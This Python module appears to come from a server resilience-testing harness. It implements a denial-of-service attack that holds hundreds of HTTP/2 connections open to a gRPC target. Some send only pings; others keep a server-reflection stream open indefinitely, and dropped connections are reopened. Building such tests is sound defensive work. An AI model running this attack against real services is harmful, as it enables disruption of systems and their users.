"""Connections that send pings and no call, and connections with a call that never ends."""

from __future__ import annotations

import socket
import struct
import sys
import time
from contextlib import suppress

from attacks.harness import Attack, Begin, Counts, Target, main
from attacks.http2 import PING, PREFACE, call, drain, frame, header_block, settings

_REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
_SOCKETS = 300
_NOFILE = 256
# Both rest between their pings, and connect again where they were dropped.
_REST_S = 0.3
_AGAIN = 8


def _strike(target: Target, begin: Begin) -> Counts:
    # A call of reflection stays open as long as its client sends questions.
    question = call(1, header_block(_REFLECTION), b"", is_last=False)
    said = (PREFACE + settings(), PREFACE + settings() + question)
    open_ones: list[socket.socket] = []
    connections = 0

    def connect(count: int) -> None:
        nonlocal connections
        for _ in range(count):
            with suppress(OSError):
                open_ones.append(socket.create_connection(target.place, timeout=5))
                open_ones[-1].sendall(said[connections % 2])
                connections += 1

    connect(_SOCKETS)
    # Until those that are dropped first have gone.
    time.sleep(2.0)
    until = begin()
    while time.monotonic() < until:
        for one in [one for one in open_ones if not _ping(one)]:
            one.close()
            open_ones.remove(one)
        connect(min(_AGAIN, _SOCKETS - len(open_ones)))
        time.sleep(_REST_S)
    left = len(open_ones)
    for one in open_ones:
        one.close()
    return {"connections": connections, "left": left}


def _ping(connection: socket.socket) -> bool:
    """Send a ping; return whether the connection is open."""
    with suppress(OSError):
        connection.sendall(frame(PING, 0, 0, struct.pack(">Q", 0)))
        return drain(connection)
    return False


ATTACK = Attack("idle but chatty connections", _strike, nofile=_NOFILE, needs_proxy=True)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
